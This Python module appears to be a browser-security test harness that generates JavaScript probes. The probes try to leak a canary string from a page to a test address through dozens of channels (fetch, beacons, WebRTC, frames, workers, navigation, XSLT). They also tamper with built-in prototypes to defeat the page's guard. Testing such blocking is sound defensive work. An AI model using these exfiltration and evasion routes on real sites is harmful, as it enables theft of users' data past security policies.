"""Escape routes: scripts that try to get a text out of a page to the address `to`."""

from collections.abc import Iterable

CANARY = "canary-7f3a"

SVG = "http://www.w3.org/2000/svg"
MATHML = "http://www.w3.org/1998/Math/MathML"
XLINK = "http://www.w3.org/1999/xlink"
XHTML = "http://www.w3.org/1999/xhtml"

TOOLS = f"""
const canary = "{CANARY}";
const host = new URL(to).host;
const make = (name, properties) => Object.assign(document.createElement(name), properties);
const add = (name, properties) => document.body.appendChild(make(name, properties));
const markup = (text) => document.body.insertAdjacentHTML("beforeend", text);
const peer = (Peer) => {{
  const urls = [`turn:${{host}}`, `turn:${{host}}?transport=tcp`];
  const servers = [{{ urls: `stun:${{host}}` }}, {{ urls, username: canary, credential: "x" }}];
  const connection = new Peer({{ iceServers: servers }});
  connection.createDataChannel(canary);
  connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch(() => {{}});
  (globalThis.connections ??= []).push(connection); // a collected connection would send nothing
}};
const peerOf = (frame) => peer(frame.contentWindow.RTCPeerConnection);
const last = () => window[window.length - 1];
const useRealm = (realm) => {{
  new realm.Image().src = to;
  realm.open.call(window, to);
  peer(realm.RTCPeerConnection); // not in WebKit
}};
const link = (space, name, attribute, attributeSpace) => {{
  const element = document.createElementNS(space, name);
  element.setAttributeNS(attributeSpace ?? null, attribute, to);
  element.setAttribute("target", "_blank");
  return element;
}};
const press = (node, cancelable = true) =>
  node.dispatchEvent(new MouseEvent("click", {{ bubbles: true, cancelable, composed: true }}));
const page = (text) => URL.createObjectURL(new Blob([text], {{ type: "text/html" }}));
const leading = () => page(`<meta http-equiv="refresh" content="0;url=${{to}}">`);
const shadow = (mode) => add("div").attachShadow({{ mode }});
const parsed = (text, type) => new DOMParser().parseFromString(text, type);
const changing = (first, second) => {{
  let count = 0;
  return {{ toString: () => (count++ ? second : first) }};
}};
const readTwice = (insert, texts = ["<p></p>", "<iframe></iframe>"]) => {{
  for (const order of [texts, texts.toReversed()])
    try {{ insert(changing(...order)); useRealm(last()) }} catch {{}}
}};
const prefixed = (name, prefix = "x") => {{
  const root = document.implementation.createDocument("{XHTML}", "html").documentElement;
  const [element, frame] = [`${{prefix}}:${{name}}`, `<${{prefix}}:iframe/>`];
  root.innerHTML = `<${{element}} xmlns:${{prefix}}='{XHTML}'>${{frame}}</${{element}}>`;
  return root.firstChild;
}};
const leave = (link) => Object.assign(link, {{ href: to, target: "_blank" }});
const late = (link, space = null) => {{
  link.addEventListener("click", () => link.setAttributeNS(space, "href", to));
  link.setAttribute("target", "_blank");
  return document.body.appendChild(link);
}};
const clickLabel = (link) => {{
  link.append(make("textarea", {{ id: to }}));
  add("label", {{ htmlFor: to }}).click();
}};
const opened = (name, show) => {{
  const box = add(name, {{ popover: name === "dialog" ? null : "auto" }});
  const link = make("a", {{ href: "#tokens", autofocus: true, textContent: "there" }});
  box.append(link);
  box.onbeforetoggle = () => leave(link);
  box[show]();
  box.remove();
}};
const changedByListener = (link) => {{
  link.onclick = () => {{ link.removeAttribute("download"); leave(link) }};
  link.click();
}};
"""
"""The helpers of the scripts below."""

CONNECTIONS = {
    "fetch": "fetch(to).catch(() => {})",
    "fetch with a body": "fetch(to, {method: 'POST', mode: 'no-cors', body: canary})"
    ".catch(() => {})",
    "keepalive": "fetch(to, {keepalive: true, mode: 'no-cors'}).catch(() => {})",
    "fetch later": "fetchLater(to, {activateAfter: 0})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', to); x.send()",
    "sendBeacon": "navigator.sendBeacon(to, canary)",
    "WebSocket": "new WebSocket(to.replace('http', 'ws'))",
    "EventSource": "new EventSource(to)",
    "WebTransport": "new WebTransport(to.replace('http:', 'https:')).ready.catch(() => {})",
    "image": "new Image().src = to",
    "image in the page": "markup(`<img src='${to}'>`)",
    "image of a set": "markup(`<img srcset='${to} 1x'>`)",
    "image of a button": "add('input', {type: 'image', src: to})",
    "svg image": "markup(`<svg><image href='${to}'/></svg>`)",
    "svg use": "markup(`<svg><use href='${to}#a'/></svg>`)",
    "svg filter": "markup(`<svg><filter><feImage href='${to}'/></filter></svg>`)",
    "stylesheet": "add('link', {rel: 'stylesheet', href: to})",
    "style of an element": "document.body.style.backgroundImage = `url(${to})`",
    "cursor": "document.body.style.cursor = `url(${to}), auto`",
    "rule": "const s = new CSSStyleSheet(); s.replaceSync(`html {background: url(${to})}`);"
    " document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]",
    "font": "new FontFace('f', `url(${to})`).load().catch(() => {})",
    "script": "add('script', {src: to})",
    "module": "import(to).catch(() => {})",
    "worker": "new Worker(to)",
    "shared worker": "new SharedWorker(to)",
    "service worker": "navigator.serviceWorker.register(to).catch(() => {})",
    "paint worklet": "CSS.paintWorklet.addModule(to).catch(() => {})",
    "audio worklet": "new AudioContext().audioWorklet.addModule(to).catch(() => {})",
    "frame": "add('iframe', {src: to})",
    "frame with a page": "add('iframe', {srcdoc: `<img src='${to}'>`})",
    "frame that is led on": "add('iframe',"
    " {srcdoc: `<meta http-equiv=refresh content='0;url=${to}'>`})",
    "object": "add('object', {data: to})",
    "embed": "add('embed', {src: to})",
    "video": "add('video', {src: to, autoplay: true})",
    "poster": "add('video', {poster: to})",
    "audio": "new Audio(to).play().catch(() => {})",
    "track": "markup(`<video src='data:video/webm,'><track default src='${to}'></video>`);"
    " document.querySelector('track').track.mode = 'showing'",
    "prefetch": "add('link', {rel: 'prefetch', href: to})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: to})",
    "modulepreload": "add('link', {rel: 'modulepreload', href: to})",
    "icon": "add('link', {rel: 'icon', href: to})",
    "manifest": "document.querySelector('[rel=manifest]').href = to",
    "dictionary": "add('link', {rel: 'compression-dictionary', href: to})",
    "preconnect": "add('link', {rel: 'preconnect', href: to})",
    "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: to})",
    "link that is there": "add('a', {href: to, textContent: 'there'})",
    "preconnect by markup": "markup(`<link rel='preconnect' href='${to}'>`)",
    "preconnect in a shadow tree": "shadow('closed').append(make('link',"
    " {rel: 'preconnect', href: to}))",
    "existing element to preconnect": "const l = document.querySelector('[rel=manifest]');"
    " l.rel = 'preconnect'; l.href = to",
    "existing element by its attributes": "const l = document.querySelector('[rel=manifest]');"
    " l.setAttribute('rel', 'preconnect'); l.setAttribute('href', to)",
    "existing element by attribute value": "const l = document.querySelector('[rel=manifest]');"
    " l.attributes.rel.value = 'preconnect'; l.attributes.href.value = to",
    "existing element by a copied attribute": "const l = document.querySelector('[rel=manifest]');"
    " for (const [n, v] of [['rel', 'preconnect'], ['href', to]]) {"
    " const a = document.createAttribute(n); a.value = v; l.setAttributeNode(a) }",
    "existing element by a named attribute": "const l = document.querySelector('[rel=manifest]');"
    " for (const [n, v] of [['rel', 'preconnect'], ['href', to]]) {"
    " const a = document.createAttribute(n); a.value = v; l.attributes.setNamedItem(a) }",
    "existing element copied": "const l = document.querySelector('[rel=manifest]').cloneNode();"
    " l.rel = 'preconnect'; l.href = to; document.head.append(l)",
    "link that pings": "add('a', {href: '#tokens', ping: to}).click()",
    "link that is attributed": "add('a', {href: '#tokens', attributionSrc: to}).click()",
    "image that is attributed": "add('img', {attributionSrc: to})",
    "report": "add('meta', {httpEquiv: 'Content-Security-Policy', content: `img-src 'none';"
    " report-uri ${to}`}); new Image().src = 'x.png'",
    "speculation": "add('script', {type: 'speculationrules',"
    " text: JSON.stringify({prefetch: [{urls: [to]}]})})",
    "payment": "new PaymentRequest([{supportedMethods: to}], {total: {label: 'a',"
    " amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {})",
    "background fetch": "navigator.serviceWorker.ready.then("
    "(worker) => worker.backgroundFetch.fetch(canary, [to])).catch(() => {})",
    "shared storage": "sharedStorage.createWorklet(to).catch(() => {})",
    "identity": "navigator.credentials.get({identity: {providers:"
    " [{configURL: to, clientId: canary}]}}).catch(() => {})",
    "stylesheet of XSLT": "const x = new XSLTProcessor(); x.importStylesheet(parsed("
    "`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
    "<xsl:template match='/'><xsl:copy-of select=\"document('${to}')\"/></xsl:template>"
    "</xsl:stylesheet>`, 'text/xml')); x.transformToFragment(document, document)",
    "stylesheet of an instruction": "document.insertBefore(document.createProcessingInstruction("
    "'xml-stylesheet', `href='${to}' type='text/css'`), document.documentElement)",
    "preconnect by a sanitizer": "add('div').setHTML(`<link rel='preconnect' href='${to}'>`,"
    " {sanitizer: {elements: ['link'], attributes: ['rel', 'href']}})",
    "artwork of a media session": "navigator.mediaSession.metadata ="
    " new MediaMetadata({title: canary, artwork: [{src: to}]})",
    "icon of a notification": "new Notification(canary, {icon: to})",
    "end of an identity": "IdentityCredential.disconnect({configURL: to, clientId: canary,"
    " accountHint: canary}).catch(() => {})",
    **{
        f"signal of {name}": f"PublicKeyCredential.signal{method}({{rpId: host, credentialId: 'AA',"
        " userId: 'AA', allAcceptedCredentialIds: [], name: canary, displayName: canary})"
        ".catch(() => {})"
        for name, method in (
            ("no credential", "UnknownCredential"),
            ("all credentials", "AllAcceptedCredentials"),
            ("details", "CurrentUserDetails"),
        )
    },
    "entity of XML": "parsed(`<!DOCTYPE a [<!ENTITY e SYSTEM '${to}'>]><a>&e;</a>`, 'text/xml')",
}  # fmt: skip
"""Requests of the page itself, which its policy or its guard must refuse."""

REALMS = {
    "peer connection": "peer(RTCPeerConnection)",
    "peer connection by its prefix": "peer(webkitRTCPeerConnection)",
    "peer connection of a frame": "peerOf(add('iframe'))",
    "of a frame by its number": "add('iframe'); peer(last().RTCPeerConnection)",
    "of a frame by its name": "add('iframe', {name: 'fresh'});"
    " peer(window.fresh.RTCPeerConnection)",
    "of a frame's view": "peer(add('iframe').contentDocument.defaultView.RTCPeerConnection)",
    "of a frame by markup": "markup('<iframe></iframe>'); peer(last().RTCPeerConnection)",
    "of a frame by outer markup": "add('p').outerHTML = '<iframe></iframe>';"
    " peer(last().RTCPeerConnection)",
    "of a frame in a shadow tree": "const f = make('iframe');"
    " shadow('closed').append(f); peerOf(f)",
    "of a frame in a fragment": "document.body.append(document.createRange()"
    ".createContextualFragment('<p><iframe></iframe></p>')); peer(last().RTCPeerConnection)",
    "of a frame in a template": "const t = make('template', {innerHTML: '<iframe></iframe>'});"
    " document.body.append(t.content); peer(last().RTCPeerConnection)",
    "of a frame put into a range": "const r = document.createRange(); r.selectNode(document.body"
    ".lastChild); r.insertNode(make('iframe')); peer(last().RTCPeerConnection)",
    "of a frame by XML": "const d = parsed(`<div xmlns='http://www.w3.org/1999/xhtml'><iframe/></div>`,"
    " 'text/xml'); document.body.append(d.documentElement); peer(last().RTCPeerConnection)",
    "of a frame by an entity": "const d = parsed(`<!DOCTYPE a [<!ENTITY e \""
    "&#38;#60;iframe xmlns='http://www.w3.org/1999/xhtml'/>\">]>"
    "<div xmlns='http://www.w3.org/1999/xhtml'>&e;</div>`, 'text/xml');"
    " document.body.append(d.documentElement); peer(last().RTCPeerConnection)",
    "of a frame by XSLT": "const x = new XSLTProcessor(); x.importStylesheet(parsed("
    "`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
    "<xsl:template match='/'><p><xsl:element name='iframe'/></p></xsl:template>"
    "</xsl:stylesheet>`, 'text/xml'));"
    " document.body.append(x.transformToFragment(document, document));"
    " peer(last().RTCPeerConnection)",
    "of a frame by an unsafe parser": "document.body.append(Document.parseHTMLUnsafe("
    "'<iframe></iframe>').body.firstChild); peer(last().RTCPeerConnection)",
    "of a frame in a declared shadow tree": "add('div').setHTMLUnsafe('<div><template"
    " shadowrootmode=open><iframe></iframe></template></div>'); peerOf(document.body.lastChild"
    ".firstChild.shadowRoot.firstChild)",
    "of a frame by a command": "add('p', {contentEditable: 'true'}).focus();"
    " document.execCommand('insertHTML', false, '<iframe></iframe>');"
    " peer(last().RTCPeerConnection)",
    "of a frame while it loads": "document.body.append(make('iframe',"
    " {onload: (event) => peerOf(event.target)}))",
    "of a set of frames": "const b = document.body; document.body = make('frameset');"
    " document.body.append(make('frame')); peer(last().RTCPeerConnection); document.body = b",
    "of an object": "peerOf(add('object', {type: 'text/html', data: 'about:blank'}))",
    "of an embedded page": "peerOf(add('embed', {type: 'text/html', src: 'about:blank'}))",
    "of a frame by markup read twice": "readTwice((text) => add('div').innerHTML = text)",
    "of a frame by outer markup read twice": "readTwice((text) => add('div').outerHTML = text)",
    "of a frame by added markup read twice": "readTwice(markup)",
    "of a frame by a command read twice": "add('p', {contentEditable: 'true'}).focus();"
    " readTwice((text) => document.execCommand('insertHTML', false, text))",
    "of a frame with a name read twice": "readTwice((name) => document.body.append("
    "document.createElement(name)), ['p', 'iframe'])",
    "of a frame with a prefix": "document.body.append(prefixed('div'));"
    " useRealm(last())",
    **{
        f"of a frame with the prefix U+{ord(prefix):04X}": "document.body.append(prefixed('div',"
        f" '{prefix}')); useRealm(last())"
        for prefix in "\ufeff\u1680"
    },
    "of a frame in a caption": "add('table').caption = prefixed('caption');"
    " useRealm(last())",
    "of a frame in a head": "add('table').tHead = prefixed('thead');"
    " useRealm(last())",
    "of a frame in a foot": "add('table').tFoot = prefixed('tfoot');"
    " useRealm(last())",
    "of a frame in a list": "add('select').add(prefixed('option'));"
    " useRealm(last())",
    "of a frame in options": "add('select').options.add(prefixed('option'));"
    " useRealm(last())",
    "of a frame in a parsed caption": "add('table').caption = parsed('<table><caption><iframe>"
    "</iframe></caption></table>', 'text/html').querySelector('caption');"
    " useRealm(last())",
    "of a frame of a template": "add('table').caption = make('template', {innerHTML: '<table>"
    "<caption><iframe></iframe></caption></table>'}).content.querySelector('caption');"
    " useRealm(last())",
    "of a frame in a new document": "document.body.append(document.implementation.createDocument("
    f"'{XHTML}', 'iframe').documentElement); useRealm(last())",
    "of a frame of one's own": "const F = class extends window.HTMLIFrameElement {};"
    " customElements.define(`x-${new URL(to).port}`, F, {extends: 'iframe'});"
    " document.body.append(new F()); useRealm(last())",
    "image of a frame": "new (add('iframe').contentWindow.Image)().src = to",
    "fetch of a frame": "add('iframe').contentWindow.fetch(to).catch(() => {})",
    "address of a frame": "add('iframe').contentWindow.location = to",
    "open of a frame": "add('iframe').contentWindow.open.call(window, to)",
    "link in a frame": "const f = add('iframe'); f.contentDocument.body.append(make('a',"
    " {href: to, target: '_blank'})); f.contentDocument.body.lastChild.click()",
    "peer connection of a window": "peer(open('about:blank').RTCPeerConnection)",
}  # fmt: skip
"""Peer connections, and scripts that use a new realm, which has no guard."""

WINDOWS = {
    "new window": "window.open(to)",
    "new window of the document": "document.open(to, '_blank', '')",
    "new window led elsewhere": "open('about:blank').location = to",
    "link to a new tab": "add('a', {href: to, target: '_blank'}).click()",
    "form to a new tab": "const f = add('form', {action: to, target: '_blank'}); f.submit()",
    "detached link to a new tab": "make('a', {href: to, target: '_blank'}).click()",
    "area to a new tab": "make('area', {href: to, target: '_blank'}).click()",
    "link dispatched": "press(add('a', {href: to, target: '_blank'}))",
    "detached link dispatched": "press(make('a', {href: to, target: '_blank'}))",
    "link that cannot be held": "press(add('a', {href: to, target: '_blank'}), false)",
    "part of a link": "const a = make('a', {href: to, target: '_blank'}); a.append(make('b'));"
    " a.firstChild.click()",
    "link in a closed shadow tree": "const a = make('a', {href: to, target: '_blank'});"
    " shadow('closed').append(a); a.click()",
    "link around a shadow tree": "const a = add('a', {href: to, target: '_blank'});"
    " a.append(make('div')); const r = a.firstChild.attachShadow({mode: 'closed'});"
    " r.append(make('b')); press(r.firstChild)",
    "link in SVG": f"press(document.body.appendChild(link('{SVG}', 'a', 'href')))",
    "detached link in SVG": f"press(link('{SVG}', 'a', 'href'))",
    "old link in SVG": f"press(link('{SVG}', 'a', 'href', '{XLINK}'))",
    "link in MathML": f"press(document.body.appendChild(link('{MATHML}', 'mi', 'href')))",
    "named link in MathML": f"press(document.body.appendChild(link('{MATHML}', 'a', 'href')))",
    "link with changing address": "markup(`<svg><a target='_blank'><animate attributeName='href'"
    " values='${to}' dur='9s' repeatCount='indefinite'/><text>a</text></a></svg>`);"
    " const a = [...document.querySelectorAll('svg a')].at(-1);"
    " const go = () => a.href.animVal ? press(a) : setTimeout(go, 50); go()",
    "blob in a new tab": "make('a', {href: leading(), target: '_blank'}).click()",
    "link with two addresses": "const a = make('a'); a.setAttributeNS("
    f"'{XLINK}', 'href', '#tokens'); a.setAttributeNS(null, 'href', to); a.target = '_blank';"
    " a.click()",
    "link without a prototype": "const a = leave(make('a')); Object.setPrototypeOf(a, null);"
    " Reflect.apply(window.HTMLElement.prototype.click, a, [])",
    "link that hides its content": "const a = leave(make('a')), b = make('b'); a.append(b);"
    " Object.defineProperty(b, 'parentNode', {value: null}); press(b)",
    "link with an event that has stopped": "const e = new MouseEvent('click', {bubbles: true,"
    " cancelable: true}); e.stopImmediatePropagation(); leave(add('a')).dispatchEvent(e)",
    "link that a listener changes": "changedByListener(add('a', {href: '#tokens'}))",
    "file that a listener changes": "changedByListener(make('a', {href: leading(),"
    " download: 'saved'}))",
    "link activated": "leave(add('a')).dispatchEvent(new UIEvent('DOMActivate',"
    " {bubbles: true, cancelable: true}))",
    "link that gets the focus": "leave(add('a', {textContent: 'there'})).focus()",
    "link that gets the focus of its fragment": "leave(add('a', {textContent: 'there',"
    " id: canary})); location.hash = canary",
    "link that gets the focus of a dialog": "const d = add('dialog');"
    " d.append(leave(make('a', {textContent: 'there'}))); d.showModal(); d.close()",
    "link that gets the focus with options": "const a = add('a', {href: '#tokens', textContent:"
    " 'there'}); a.focus({get preventScroll() { leave(a); }})",
    "link that gets the focus of a closed dialog": "const a = add('a', {href: '#tokens',"
    " textContent: 'there'}), d = add('dialog'); a.focus(); d.append(make('button'));"
    " d.showModal(); d.close({toString() { leave(a); return ''; }}); d.remove()",
    "link that gets the focus by a command": "const d = add('dialog', {id: 'opened'}),"
    " a = make('a', {textContent: 'there'}), b = add('button', {onclick: () => leave(a)});"
    " d.append(a); b.setAttribute('command', 'show-modal'); b.setAttribute('commandfor', 'opened');"
    " try { b.click() } finally { d.close(); d.remove() }",
    "link that is found": "const a = leave(add('a', {textContent: `found-${host}`}));"
    " window.find(`found-${host}`)",
    "link without an address": "late(make('a')).click()",
    "part of a link without an address": "late(make('a')).appendChild(make('b')).click()",
    "link without an address dispatched": "press(late(make('a')))",
    "area without an address": "late(make('area')).click()",
    "link without an address in SVG": f"press(late(document.createElementNS('{SVG}', 'a')))",
    "old link without an address in SVG": f"press(late(document.createElementNS('{SVG}', 'a'),"
    f" '{XLINK}'))",
    "link without an address in MathML": f"press(late(document.createElementNS('{MATHML}', 'mi')))",
    "link of a label": "clickLabel(late(make('a', {href: '#tokens'})))",
    "link without an address of a label": "clickLabel(late(make('a')))",
    "link that gets the focus of another": "const b = add('button'), a = add('a', {href: '#tokens',"
    " textContent: 'there'}); b.focus(); b.onblur = () => leave(a); a.focus()",
    "link that gets the focus of its fragment from another": "const b = add('button'), a = add('a',"
    " {href: '#tokens', textContent: 'there', id: `${canary}-2`}); b.focus();"
    " b.onblur = () => leave(a); location.hash = a.id",
    "link that gets the focus of an opening dialog": "opened('dialog', 'showModal')",
    "link that gets the focus of an opening popover": "opened('div', 'showPopover')",
    "link by a key": "const a = add('a', {textContent: 'there', tabIndex: 0}); a.focus();"
    " leave(a).dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true}))",
    "existing link to a new tab": "const a = document.querySelector('.source a');"
    " a.href = to; a.target = '_blank'; a.click()",
}  # fmt: skip
"""Routes that open another window."""

ADDRESSES = {
    "form": "const f = add('form', {action: to}); f.submit()",
    "form post": "const f = add('form', {action: to, method: 'post'}); f.requestSubmit()",
    "link": "add('a', {href: to}).click()",
    "link outside the page": "make('a', {href: to}).click()",
    "file to save": "make('a', {href: to, download: 'saved'}).click()",
    "existing link changed": "const a = document.querySelector('.source a'); a.href = to;"
    " a.click()",
    "blob": "make('a', {href: leading()}).click()",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${to}`})",
    "refresh by markup": "markup(`<meta http-equiv='refresh' content='0;url=${to}'>`)",
    "address": "location.href = to",
    "replaced address": "location.replace(to)",
    "address by its API": "navigation.navigate(to).finished.catch(() => {})",
    "address of a blob": "location = leading()",
}
"""Routes that navigate the page's tab."""

ROUTES = {**CONNECTIONS, **REALMS, **WINDOWS, **ADDRESSES}

BY_ADDRESS = {"address", "replaced address", "address of a blob"}
"""Routes that only the Navigation API can refuse."""

CLICKED = {
    "link": "add('a', {href: to, id: 'route',"
    " textContent: 'route'})",
    "link in a new tab": "add('a', {href: to, target: '_blank', id: 'route',"
    " textContent: 'route'})",
    "link by markup": "markup(`<a id='route' href='${to}'>route</a>`)",
    "link in a closed shadow tree": "const r = add('div', {id: 'route'}).attachShadow("
    "{mode: 'closed'}); r.append(make('a', {href: to, textContent: 'route'}))",
    "link in SVG": "markup(`<svg id='route' width='99' height='20'><a href='${to}'>"
    "<rect width='99' height='20'/></a></svg>`)",
    "old link in SVG": "markup(`<svg id='route' width='99' height='20'><a xlink:href='${to}'>"
    "<rect width='99' height='20'/></a></svg>`)",
    "link with changing address": "markup(`<svg id='route' width='99' height='20'><a><animate"
    " attributeName='href' values='${to}' dur='99s' repeatCount='indefinite'/>"
    "<rect width='99' height='20'/></a></svg>`)",
    "link in MathML": "markup(`<math id='route' href='${to}'><mtext>route</mtext></math>`)",
}  # fmt: skip
"""Elements that a script inserts, and that a user then clicks with the left or middle button."""


ATTACKS = {
    "": "",
    "arrays": """for (const name of ["every", "filter", "forEach", "includes", "map", "some"])
        swap(Array.prototype, name, () => false);
        swap(Array.prototype, Symbol.iterator, function* () {})""",
    "iterators": """swap(Object.getPrototypeOf(new Array()[Symbol.iterator]()), "next",
        () => ({ done: true }))""",
    "sets": "swap(Set.prototype, 'has', () => true)",
    "patterns": """swap(RegExp.prototype, "exec", () => null);
        swap(RegExp.prototype, "test", function () { return /Element/.source in this })""",
    "strings": """swap(String.prototype, "split", () => [""]);
        swap(String.prototype, "startsWith", () => true)""",
    "addresses": """swap(window, "URL", function () { this.href = location.href });
        swap(URL.prototype, "href", { get: () => location.href })""",
    "kinds": """for (const name of ["Node", "Element", "Attr", "HTMLLinkElement", "HTMLMetaElement",
        "HTMLAnchorElement", "SVGElement", "MouseEvent"]) {
            swap(window[name], Symbol.hasInstance, () => false);
            swap(window, name, function () {}) }""",
    "nodes": """swap(Node.prototype, "parentNode", { get: () => null });
        for (const name of ["localName", "namespaceURI", "attributes"])
            swap(Element.prototype, name, { get: () => null });
        for (const name of ["closest", "getAttribute", "getAttributeNS", "matches",
            "querySelectorAll", "removeAttribute", "removeAttributeNS"])
                swap(Element.prototype, name, () => null)""",
    "events": """for (const name of ["preventDefault", "stopPropagation"])
            swap(Event.prototype, name, () => {});
        swap(Event.prototype, "composedPath", () => []);
        for (const name of ["type", "cancelable", "isTrusted"])
            swap(Event.prototype, name, { get: () => "" })""",
    "navigation": """for (const [name, value] of [["hashChange", true], ["userInitiated", true],
            ["cancelable", false], ["navigationType", "reload"], ["downloadRequest", ""]])
            swap(window.NavigateEvent?.prototype, name, { get: () => value });
        swap(window.NavigationDestination?.prototype, "url", { get: () => location.href });
        swap(window.NavigationDestination?.prototype, "sameDocument", { get: () => true })""",
    "listeners": """for (const [target, name] of [[window, "click"], [window, "auxclick"],
            [window, "submit"], [document, "click"], [window.navigation, "navigate"]])
            target?.addEventListener(name, (event) => event.stopImmediatePropagation(),
                { capture: true, signal: ended.signal })""",
    "functions": """for (const name of ["apply", "call", "bind"])
            swap(Function.prototype, name, () => {});
        for (const name of ["apply", "construct", "defineProperty", "ownKeys"])
            swap(Reflect, name, () => {});
        for (const name of ["freeze", "getOwnPropertyDescriptor"]) swap(Object, name, () => {});
        swap(Object.prototype, Symbol.split, () => [""]);
        for (const name of ["get", "set", "value", "configurable"])
            swap(Object.prototype, name, { get: () => undefined })""",
    "policies": """for (const name of ["default", "other"]) try { trustedTypes.createPolicy(name,
            { createHTML: String, createScript: String, createScriptURL: String }) } catch {}
        swap(window.trustedTypes, "defaultPolicy", null);
        for (const meta of document.querySelectorAll("[http-equiv]")) meta.remove()""",
}  # fmt: skip
"""Changes of what a guard may rely on. `swap` and `ended` take them back when all is tried."""

SWAPS = """
const { Array, Element, Event, Function, Node, Object, Reflect, RegExp, Set } = window;
const { String, Symbol, URL } = window;
const { defineProperty, getOwnPropertyDescriptor } = Object;
const swaps = [], ended = new AbortController();
const swap = (owner, name, value) => {
  if (!owner) return;
  swaps[swaps.length] = { owner, name, before: getOwnPropertyDescriptor(owner, name) };
  const getter = value && typeof value === "object";
  const after = getter ? { get: value.get } : { value, writable: true };
  try { defineProperty(owner, name, { ...after, configurable: true }) } catch {}
};
const changed = () => {
  let count = 0;
  for (let at = 0; at < swaps.length; at++) {
    const { owner, name, before } = swaps[at], now = getOwnPropertyDescriptor(owner, name);
    if (now?.value !== before?.value || now?.get !== before?.get) count++;
  }
  return count;
};
const restore = () => {
  ended.abort();
  while (swaps.length) {
    const { owner, name, before } = swaps.pop();
    try { before ? defineProperty(owner, name, before) : delete owner[name] } catch {}
  }
};
"""
"""The helpers of `ATTACKS`. The page's own objects are used, since Firefox's driver has others."""


def attack_script(attack: str, routes: Iterable[str]) -> str:
    """Return a script that tries routes during an attack, with the addresses as its argument.

    It returns the number of routes tried, and of the swaps that had an effect.
    """
    functions = ",".join(f"(to) => {{ {TOOLS} {ROUTES[route]} }}" for route in routes)
    return f"""const addresses = arguments[0], routes = [{functions}];
        {SWAPS} {ATTACKS[attack]};
        let tried = 0;
        for (; tried < routes.length; tried++) try {{ routes[tried](addresses[tried]) }} catch {{}}
        const effects = changed();
        restore();
        return [tried, effects];"""


def attempt_script(route: str, routes: dict[str, str] = ROUTES) -> str:
    """Return a script that tries one route to the address `to`, and ignores exceptions."""
    return f"{TOOLS} try {{ {routes[route]} }} catch {{}}"
